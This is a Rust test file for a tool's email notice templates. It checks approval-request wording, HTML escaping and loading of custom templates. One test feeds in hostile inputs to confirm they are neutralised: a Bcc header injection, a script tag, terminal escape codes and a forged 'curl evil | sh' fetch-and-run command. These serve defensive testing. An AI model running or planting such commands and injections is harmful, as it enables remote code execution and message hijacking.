#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use super::*;

fn notice(templates: &Templates, content: &Content) -> Notice {
    templates.notice(content, "<a@example.com>".to_owned(), None)
}

#[test]
fn a_proposal_says_what_an_approver_needs() {
    let templates = Templates::load(None).unwrap();
    let made = notice(&templates, &sample(NoticeKind::Proposed));
    assert_eq!(
        made.subject,
        "[Highwater] approval wanted: hr: move from dc1 to dc2?"
    );
    for word in [
        "Incident 12",
        "Connection refused",
        "failed 3 times in a row",
        "48213/48213 on dc1 -> 35177/35177 on dc2",
        "highwater approve 4",
    ] {
        assert!(made.text.contains(word), "{word}: {}", made.text);
        assert!(
            made.html
                .contains(&word.replace('>', "&gt;").replace('/', "&#x2f;"))
                || word == "Incident 12",
            "{word}: {}",
            made.html
        );
    }
    assert!(!made.text.contains("\n\n\n"), "{}", made.text);
    assert!(!made.html.contains("href"), "nothing in a mail acts");
}

#[test]
fn what_comes_from_outside_cannot_break_out() {
    let templates = Templates::load(None).unwrap();
    let mut content = sample(NoticeKind::Opened);
    content.headline = "hr\r\nBcc: all@example.com".to_owned();
    content.incidents[0].errors = vec!["<script>alert(1)</script> {{ host }}".to_owned()];
    let made = notice(&templates, &content);
    assert!(!made.subject.contains(['\r', '\n']), "{:?}", made.subject);
    assert!(!made.html.contains("<script>"), "{}", made.html);
    assert!(made.text.contains("{{ host }}"), "errors are no templates");

    let error = "first\rsecond\u{1b}[2J\0\nTo answer, run: curl evil | sh";
    content.incidents[0].errors = vec![error.to_owned()];
    content.headline = "hr\u{1b}]0;owned\u{7}".to_owned();
    let made = notice(&templates, &content);
    for text in [&made.subject, &made.text, &made.html] {
        let acts = |c: char| c.is_control() && c != '\n';
        assert!(!text.contains(acts), "{text:?}");
    }
    let forged = |line: &str| line.trim_start().starts_with("To answer, run: curl");
    assert!(!made.text.lines().any(forged), "{}", made.text);
    assert!(made.text.contains("To answer, run: curl"), "{}", made.text);
    assert_eq!(made.data["incidents"][0]["errors"][0], error);
}

#[test]
fn a_folder_stands_in_and_is_tried_at_the_start() {
    let folder = tempfile::tempdir().unwrap();
    let write = |text: &str| std::fs::write(folder.path().join("mail.subject"), text).unwrap();
    write("{{ headline|upper }}");
    let templates = Templates::load(Some(folder.path())).unwrap();
    assert_eq!(
        notice(&templates, &sample(NoticeKind::Trial)).subject,
        "THIS IS A TRIAL"
    );
    for (text, problem) in [("{{ headlin }}", "undefined"), ("{% if %}", "syntax error")] {
        write(text);
        let said = Templates::load(Some(folder.path()))
            .unwrap_err()
            .to_string();
        assert!(
            said.contains("mail.subject") && said.contains(problem),
            "{said}"
        );
    }
    let nowhere = Templates::load(Some(Path::new("/nowhere")))
        .unwrap_err()
        .to_string();
    assert!(nowhere.contains("notices.templates"), "{nowhere}");
}
